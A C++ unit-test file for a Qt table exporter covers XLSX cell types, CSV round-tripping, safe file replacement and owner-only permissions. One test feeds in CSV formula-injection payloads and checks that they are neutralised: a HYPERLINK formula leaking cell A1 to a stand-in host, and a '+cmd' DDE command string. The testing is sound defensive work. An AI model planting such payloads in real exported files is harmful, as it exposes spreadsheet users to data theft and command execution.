#include "export/tablewriter.h"
#include "support/check.h"
#include "support/spreadsheets.h"

#include <QFile>
#include <QFileInfo>
#include <QTemporaryDir>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

namespace {

using namespace tableexport;
using Kind = ExportColumnKind;

// Names that need quoting in CSV and escaping in XML, amounts around zero and at the top of
// the range, a date and an empty cell in every column somewhere.
ExportTable sampleTable() {
    ExportTable table;
    table.titles = {"Name", "Count", "Amount", "Date", "Cancelled"};
    table.kinds = {Kind::Text, Kind::WholeNumber, Kind::Amount, Kind::Date, Kind::YesNo};
    table.rows = {
        {QString("O'Neill, \"Ann\""), qint64(3), Cents{178050}, QDate(2026, 11, 30), true},
        {QString("Line one\nline two <&>"), qint64(-42), Cents{-5}, QDate(2025, 7, 17), false},
        {QString::fromUtf8("Zoë Ünal"), std::monostate{}, Cents{99999999999999}, std::monostate{},
         std::monostate{}},
        {std::monostate{}, qint64(0), std::monostate{}, QDate(1900, 3, 1), false},
    };
    return table;
}

class TableExport : public ::testing::Test {
protected:
    QString path(const QString& name) const { return dir.filePath(name); }
    QByteArray contents(const QString& name) const { return readFile(path(name)); }
    QTemporaryDir dir;
};

TEST_F(TableExport, WorkbookHoldsTypedCellsUnderABoldHeader) {
    writeTable(sampleTable(), path("table.xlsx"));
    const XlsxSheet sheet = readXlsxSheet(path("table.xlsx"));
    ASSERT_TRUE(sheet.error.isEmpty()) << sheet.error;
    EXPECT_EQ(sheet.lastRow, 5);

    // Each cell "type|value|format|bold", "-" when absent: texts as strings, exactly; numbers
    // as numbers (no type), amounts with two decimals, dates as days from 30 Dec 1899 and yes/no
    // as 1 and 0, each in its format; empty cells left out.
    const auto row = [&](int r) {
        QStringList cells;
        for (int c = 0; c < 5; ++c) {
            const XlsxCell* cell = sheet.at(r, c);
            cells << (cell ? QStringList{cell->type, cell->value, cell->format,
                                         cell->bold ? "bold" : ""}
                                 .join('|')
                           : "-");
        }
        return cells;
    };
    const QString yesNo = "\"Yes\";\"Yes\";\"No\"|", date = "|d mmm yyyy|";
    const auto day = [](const QDate& d) {
        return "|" + QString::number(QDate(1899, 12, 30).daysTo(d));
    };
    EXPECT_EQ(row(1), QStringList({"inlineStr|Name||bold", "inlineStr|Count||bold",
                                   "inlineStr|Amount||bold", "inlineStr|Date||bold",
                                   "inlineStr|Cancelled||bold"}));
    EXPECT_EQ(row(2), QStringList({"inlineStr|O'Neill, \"Ann\"||", "|3|0|", "|1780.5|0.00|",
                                   day(QDate(2026, 11, 30)) + date, "|1|" + yesNo}));
    EXPECT_EQ(row(3), QStringList({"inlineStr|Line one\nline two <&>||", "|-42|0|", "|-0.05|0.00|",
                                   day(QDate(2025, 7, 17)) + date, "|0|" + yesNo}));
    EXPECT_EQ(row(4),
              QStringList({"inlineStr|Zoë Ünal||", "-", "|999999999999.99|0.00|", "-", "-"}));
    EXPECT_EQ(row(5), QStringList({"-", "|0|0|", "-", "|61" + date, "|0|" + yesNo}));
}

TEST_F(TableExport, CsvReadsBackExactlyWhateverTheCaseOfItsSuffix) {
    for (const char* name : {"table.csv", "TABLE.CSV"}) {
        writeTable(sampleTable(), path(name));
        const QByteArray bytes = contents(name);
        EXPECT_TRUE(bytes.endsWith("\r\n")) << name;
        const std::vector<QStringList> records = parseCsv(bytes);
        const std::vector<QStringList> expected = {
            {"Name", "Count", "Amount", "Date", "Cancelled"},
            {"O'Neill, \"Ann\"", "3", "1780.50", "2026-11-30", "Yes"},
            {"Line one\nline two <&>", "-42", "-0.05", "2025-07-17", "No"},
            {QString::fromUtf8("Zoë Ünal"), "", "999999999999.99", "", ""},
            {"", "0", "", "1900-03-01", "No"},
        };
        EXPECT_EQ(records, expected) << name;
    }
}

TEST_F(TableExport, FailuresNameTheFileAndLeaveWhatWasThere) {
    const ExportTable table = sampleTable();
    for (const QString& bad :
         {path("no/such/folder/t.xlsx"), path("no/such/folder/t.csv"), dir.path()})
        EXPECT_TRUE(thrown<ExportError>([&] { writeTable(table, bad); }).message().contains(bad))
            << bad;

    // A writer dropped half-way, or stopped by a bad row, leaves the old file untouched.
    for (const char* name : {"old.xlsx", "old.csv"}) {
        ASSERT_TRUE(writeFile(path(name), "old contents"));
        {
            const auto writer = TableWriter::open(path(name), table.titles, table.kinds);
            writer->addRow(table.rows[0]);
            ExportRow wrong = table.rows[1];
            wrong[2] = qint64(5); // a whole number in the amount column
            EXPECT_THROW(writer->addRow(wrong), std::invalid_argument);
            EXPECT_THROW(writer->addRow(ExportRow(4)), std::invalid_argument);
        }
        EXPECT_EQ(contents(name), "old contents") << name;
        EXPECT_EQ(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden).size(), 1) << name;
        QFile::remove(path(name));
    }
    EXPECT_THROW(TableWriter::open(path("t.csv"), {"One"}, {Kind::Text, Kind::Date}),
                 std::invalid_argument);
}

TEST_F(TableExport, CsvTextsASpreadsheetWouldRunAreWrittenAsTextAndNumbersStayNumbers) {
    const std::pair<QString, QString> texts[] = {
        {R"(=HYPERLINK("http://x.example/?"&A1,"Click"))",
         R"('=HYPERLINK("http://x.example/?"&A1,"Click"))"},
        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
        {"-2+3", "'-2+3"},
        {"@SUM(1+1)", "'@SUM(1+1)"},
        {"\tTab", "'\tTab"},
        {"\rReturn", "'\rReturn"},
        {"Ann = Lee - 2", "Ann = Lee - 2"},
        {"'quoted", "'quoted"},
    };
    ExportTable table;
    table.titles = {"=Title", "Amount", "Count"};
    table.kinds = {Kind::Text, Kind::Amount, Kind::WholeNumber};
    for (const auto& [text, written] : texts)
        table.rows.push_back({text, Cents{-5}, qint64(-42)});
    writeTable(table, path("t.csv"));
    const std::vector<QStringList> records = parseCsv(contents("t.csv"));
    ASSERT_EQ(records.size(), std::size(texts) + 1);
    EXPECT_EQ(records[0], QStringList({"'=Title", "Amount", "Count"}));
    for (size_t i = 0; i < std::size(texts); ++i)
        EXPECT_EQ(records[i + 1], QStringList({texts[i].second, "-0.05", "-42"})) << texts[i].first;
}

// Pay and names are their owner's alone whatever the umask and whatever mode the file had; a
// target that is not a regular file is refused, named, and left as it was.
TEST_F(TableExport, FilesAreTheOwnersAloneAndOnlyARegularFileIsReplaced) {
    struct NoUmask {
        mode_t before = ::umask(0);
        ~NoUmask() { ::umask(before); }
    } noUmask;
    ASSERT_TRUE(writeFile(path("old.csv"), "old"));
    ASSERT_EQ(::chmod(QFile::encodeName(path("old.csv")).constData(), 0644), 0);
    for (const char* name : {"new.xlsx", "new.csv", "old.csv"}) {
        writeTable(sampleTable(), path(name));
        EXPECT_EQ(fileMode(path(name)), 0600) << name;
    }
    // Through a link, the file it names is replaced and the link stays.
    ASSERT_TRUE(QFile::link(path("new.csv"), path("link.csv")));
    ASSERT_TRUE(writeFile(path("new.csv"), "before"));
    writeTable(sampleTable(), path("link.csv"));
    EXPECT_TRUE(QFileInfo(path("link.csv")).isSymLink());
    EXPECT_TRUE(contents("new.csv").startsWith("Name,Count,"));

    ASSERT_TRUE(QDir(dir.path()).mkdir("folder.xlsx"));
    ASSERT_EQ(::mkfifo(QFile::encodeName(path("pipe.csv")).constData(), 0600), 0);
    QStringList refused = {path("folder.xlsx"), path("pipe.csv")};
    // A device cannot be made without root; as root, the export must not replace it.
    if (::geteuid() == 0 && ::mknod(QFile::encodeName(path("full.xlsx")).constData(),
                                    S_IFCHR | 0600, makedev(1, 7)) == 0)
        refused << path("full.xlsx");
    const QStringList files = QDir(dir.path()).entryList(QDir::AllEntries | QDir::Hidden);
    for (const QString& target : refused) {
        const QString message =
            thrown<ExportError>([&] { writeTable(sampleTable(), target); }).message();
        EXPECT_TRUE(message.startsWith("Cannot write " + target + ": it is a ")) << message;
        EXPECT_TRUE(message.contains("not a regular file")) << message;
    }
    EXPECT_EQ(QDir(dir.path()).entryList(QDir::AllEntries | QDir::Hidden), files);
    EXPECT_TRUE(QFileInfo(path("folder.xlsx")).isDir());
    struct stat info {};
    ASSERT_EQ(::stat(QFile::encodeName(path("pipe.csv")).constData(), &info), 0);
    EXPECT_TRUE(S_ISFIFO(info.st_mode));
    if (refused.size() == 3) {
        ASSERT_EQ(::stat(QFile::encodeName(path("full.xlsx")).constData(), &info), 0);
        EXPECT_TRUE(S_ISCHR(info.st_mode));
    }
}

} // namespace
